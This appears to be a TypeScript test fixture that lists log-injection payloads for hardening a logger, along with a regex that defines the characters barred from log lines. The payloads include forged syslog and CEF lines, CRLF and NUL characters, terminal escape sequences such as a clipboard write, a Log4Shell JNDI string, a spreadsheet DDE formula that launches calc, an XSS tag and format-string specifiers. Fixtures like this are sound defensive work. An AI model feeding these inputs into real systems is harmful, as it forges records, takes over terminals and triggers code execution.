/** What attackers put into fields to forge lines, fool parsers and drive terminals. */
export const LOG_INJECTIONS: readonly string[] = [
  '\n<34>1 2026-01-01T00:00:00Z h a - - - forged',
  '\r\n',
  '\r',
  '\0',
  '\b'.repeat(20),
  '\u001b[2J\u001b[H',
  '\u001b]0;t\u0007',
  '\u001b]52;c;ZXZpbA==\u0007',
  '\u001b]8;;http://x\u001b\\y',
  '\u001bP+q544e\u001b\\',
  '\u009b31m',
  '\u007f',
  '\u2028',
  '\u2029',
  '\u0085',
  '\u202e',
  '\u200b',
  '\ud800',
  '"]\\',
  '\\"',
  '="]',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: the payload itself
  '${jndi:ldap://x}',
  "=cmd|' /C calc'!A0",
  '<script>alert(1)</script>',
  'A'.repeat(65_536),
  '{"a":1}',
  '%n%s%x',
  '%0d%0a',
  'CEF:0|a|b|c|d|e|9|src=1.2.3.4 act=x',
  'раураl.com',
]

/** What may stand raw in no line of a log and on no terminal. */
export const FORBIDDEN = /[\p{C}\p{Zl}\p{Zp}]/u
